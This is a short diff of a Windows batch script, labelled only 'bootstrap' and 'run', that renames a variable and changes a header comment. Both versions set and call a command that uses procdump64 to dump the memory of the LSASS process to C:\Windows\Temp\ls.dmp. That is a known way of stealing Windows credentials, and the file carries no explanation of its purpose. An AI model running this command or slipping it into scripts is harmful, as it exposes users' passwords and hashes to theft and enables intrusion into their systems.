@@ -1,4 +1,4 @@
-REM bootstrap 6921 v0
+REM run 5534 v0
 @echo off
-set jreh=procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
-call %jreh%
+set hbwa=procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
+call %hbwa%
